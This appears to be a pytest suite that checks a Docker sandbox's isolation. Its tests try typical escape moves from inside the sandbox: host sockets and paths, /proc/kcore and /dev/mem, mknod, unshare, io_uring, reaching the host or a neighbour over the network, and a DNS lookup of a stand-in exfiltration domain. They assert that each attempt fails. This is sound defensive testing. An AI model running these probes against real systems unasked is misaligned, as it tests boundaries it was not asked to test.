"""What hostile code tries first, run inside a real sandbox through the runtime: the outcome is the boundary, not our settings."""

from __future__ import annotations

import secrets
import socket
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator

import psutil  # type: ignore[import-untyped]
import pytest

from tests.engine import DockerView
from workspaces.execution import ExecRequest
from workspaces.providers.base import Ref, SandboxSpec
from workspaces.providers.container import ContainerProvider
from workspaces.sandbox import Sandbox

pytestmark = pytest.mark.docker
CONNECT = """
import socket
def t(a, p):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((a, p)); print(a, p, 'CONNECTED')
    except OSError as e: print(a, p, type(e).__name__, e.strerror)
"""


class Inside:
    """Programs in one sandbox."""

    def __init__(self, provider: ContainerProvider, ref: Ref) -> None:
        self.ref = ref
        self._sandbox = Sandbox(lambda: provider.connect(ref), secrets.token_bytes(32))

    async def run(self, *argv: str) -> str:
        outcome, stdout, stderr = await self._sandbox.run(ExecRequest(secrets.token_hex(8), argv, timeout_s=40))
        assert outcome.ended_by == "exit", outcome
        return (stdout + stderr).decode()

    async def python(self, code: str) -> str:
        return await self.run("python3", "-c", code)

    async def close(self) -> None:
        await self._sandbox.close()


Enter = Callable[..., Awaitable[Inside]]


@pytest.fixture
async def enter(container: ContainerProvider, make_spec: Callable[..., SandboxSpec]) -> AsyncIterator[Enter]:
    made: list[Inside] = []

    async def _enter(**over: object) -> Inside:
        made.append(Inside(container, await container.start(make_spec(**over))))
        return made[-1]

    yield _enter
    for inside in made:
        await inside.close()


@pytest.fixture
def host_listener() -> Iterator[int]:
    """A service of the host on 0.0.0.0 that talks to whoever connects; the port."""
    with socket.create_server(("0.0.0.0", 0)) as server:

        def serve() -> None:
            try:
                while True:
                    connection, _ = server.accept()
                    connection.sendall(b"host\n")
                    connection.close()
            except OSError:
                return

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


async def test_no_engine_socket_and_no_path_of_the_host(enter: Enter) -> None:
    code = """
import os
for p in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
          '/var/lib/docker', '/host', '/mnt/host', '/rootfs'):
    print(p, os.path.lexists(p))
"""
    inside = await enter()
    assert "True" not in await inside.python(code)


async def test_kernel_memory_and_log_devices_do_not_open(enter: Enter) -> None:
    code = """
import os
for p in ('/proc/kcore', '/proc/kmsg', '/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg'):
    try: os.close(os.open(p, os.O_RDONLY | os.O_NONBLOCK)); print(p, 'OPEN')
    except OSError as e: print(p, e.strerror)
"""
    inside = await enter()
    assert "OPEN" not in await inside.python(code)


async def test_masked_files_of_proc_and_sys_show_nothing(enter: Enter) -> None:
    code = """
import os
for p in ('/proc/keys', '/proc/timer_list', '/proc/sched_debug'):
    try: print(p, len(open(p, 'rb').read(400)))
    except OSError as e: print(p, 0, e.strerror)
for d in ('/proc/acpi', '/proc/scsi', '/sys/firmware', '/sys/kernel/security', '/sys/kernel/debug'):
    try: print(d, len(os.listdir(d)))
    except OSError as e: print(d, 0, e.strerror)
"""
    inside = await enter()
    lines = (await inside.python(code)).splitlines()
    assert len(lines) == 8
    assert {line.split()[1] for line in lines} == {"0"}


async def test_no_device_node_can_be_made_and_no_disk_is_there(enter: Enter) -> None:
    code = """
import os, stat
for path, mode, dev in (('blk', stat.S_IFBLK, os.makedev(254, 0)), ('mem', stat.S_IFCHR, os.makedev(1, 1))):
    try: os.mknod(path, mode | 0o600, dev); print('CREATED')
    except OSError as e: print(e.strerror)
print([d for d in os.listdir('/dev') if d[:2] in ('sd', 'vd', 'nv', 'dm', 'lo')])
"""
    inside = await enter()
    assert await inside.python(code) == "Operation not permitted\n" * 2 + "[]\n"


async def test_no_new_namespace(enter: Enter) -> None:
    inside = await enter()
    found = await inside.run(
        "sh", "-c", "unshare -Ur id || echo no; unshare -Un true || echo no; unshare -m true || echo no"
    )
    assert found.count("no\n") == 3
    assert "uid=0" not in found


async def test_no_capability_no_new_privileges_and_seccomp_are_what_the_kernel_says(enter: Enter) -> None:
    inside = await enter()
    status = await inside.run("sh", "-c", "grep -E '^(Cap|NoNewPrivs|Seccomp:)' /proc/self/status")
    facts = dict(line.split(":\t") for line in status.splitlines())
    assert {int(value, 16) for name, value in facts.items() if name.startswith("Cap")} == {0}
    assert (facts["NoNewPrivs"], facts["Seccomp"]) == ("1", "2")


async def test_the_root_file_system_takes_no_write_anywhere(enter: Enter) -> None:
    inside = await enter()
    places = "/ /etc /usr/bin /usr/lib /var/tmp /root /run /home /opt /lib/x86_64-linux-gnu"
    script = f"for p in {places}; do ( : > $p/.w ) 2>/dev/null && echo WROTE $p; done; echo done"
    assert await inside.run("sh", "-c", script) == "done\n"


async def test_a_memory_workspace_is_mounted_without_setuid_and_devices(enter: Enter) -> None:
    inside = await enter(disk_medium="memory", disk_bytes=2**24)
    (line,) = (await inside.run("grep", " /workspace ", "/proc/mounts")).splitlines()
    assert {"nosuid", "nodev"} <= set(line.split()[3].split(","))


async def test_io_uring_does_not_reach_the_kernel(enter: Enter) -> None:
    inside = await enter()
    found = await inside.run("perl", "-e", "$!=0; syscall(425, 1, 0); print $!+0")
    if found != "1":
        pytest.skip(
            "unavailable: the engine's default profile lets io_uring through, and no filter of our own exists yet"
        )


async def test_without_a_network_everything_fails_at_once(enter: Enter) -> None:
    code = (
        CONNECT
        + "import time; b = time.monotonic()\nt('192.0.2.1', 80); t('198.51.100.7', 443)\n"
        + (
            "try: socket.getaddrinfo('example.com', 80); print('RESOLVED')\nexcept OSError: pass\n"
            "print(open('/proc/net/route').read().count('\\n'), time.monotonic() - b < 2)"
        )
    )
    inside = await enter()
    found = await inside.python(code)
    assert found.count("Network is unreachable") == 2
    assert "RESOLVED" not in found
    assert found.endswith("1 True\n")


@pytest.mark.parametrize("mode", ["none", "internal"])
async def test_no_address_of_the_host_answers_whatever_listens_there(
    enter: Enter, host_listener: int, mode: str
) -> None:
    inside = await enter(network_mode=mode)
    all_of_them = (address for found in psutil.net_if_addrs().values() for address in found)
    own = {found.address for found in all_of_them if found.family is socket.AF_INET}
    addresses = sorted({*own, "172.17.0.1", "172.18.0.1", "10.0.0.1"} - {"127.0.0.1"})
    assert own - {"127.0.0.1"}  # at least the bridge of the engine
    gateways = (
        "import struct\nfor l in open('/proc/net/route').read().split('\\n')[1:]:\n"
        " f = l.split()\n"
        f" if len(f) > 2 and f[2] != '00000000': t(socket.inet_ntoa(struct.pack('<I', int(f[2], 16))), {host_listener})\n"
    )
    found = await inside.python(CONNECT + f"for a in {addresses!r}: t(a, {host_listener})\n" + gateways)
    assert "CONNECTED" not in found
    assert str(host_listener) in found


async def test_the_probe_of_the_host_would_have_seen_an_open_door(enter: Enter, host_listener: int) -> None:
    """The same question with `allow_all`, where the host does answer: the two tests above can fail."""
    inside = await enter(egress="allow_all")
    gateway = "import struct\nf = open('/proc/net/route').read().split('\\n')[1].split()\n"
    call = f"t(socket.inet_ntoa(struct.pack('<I', int(f[2], 16))), {host_listener})"
    assert "CONNECTED" in await inside.python(CONNECT + gateway + call)


@pytest.mark.parametrize("over", [{"network_mode": "internal"}, {"egress": "allow_all"}])
async def test_a_neighbour_is_not_reachable(enter: Enter, docker_view: DockerView, over: dict[str, str]) -> None:
    first, second = await enter(**over), await enter(**over)
    listen = (
        "import os, socket\ns = socket.create_server(('0.0.0.0', 9000))\nif os.fork(): raise SystemExit\n"
        "os.setsid(); os.closerange(0, 3)\nwhile 1: s.accept()[0].close()"
    )
    await first.python(listen)
    networks = docker_view.client.inspect_container(first.ref.container_id)["NetworkSettings"]["Networks"]
    (address,) = [network["IPAddress"] for network in networks.values()]
    assert "CONNECTED" in await first.python(CONNECT + f"t({address!r}, 9000)")
    assert "CONNECTED" not in await second.python(CONNECT + f"t({address!r}, 9000)")


async def test_a_lookup_on_an_internal_network_fails_soon(enter: Enter) -> None:
    code = """
import socket, time
b = time.monotonic()
try: print(socket.gethostbyname('secret.exfil.invalid'), 'RESOLVED')
except OSError: pass
print(time.monotonic() - b < 5)
"""
    inside = await enter(network_mode="internal")
    assert await inside.python(code) == "True\n"
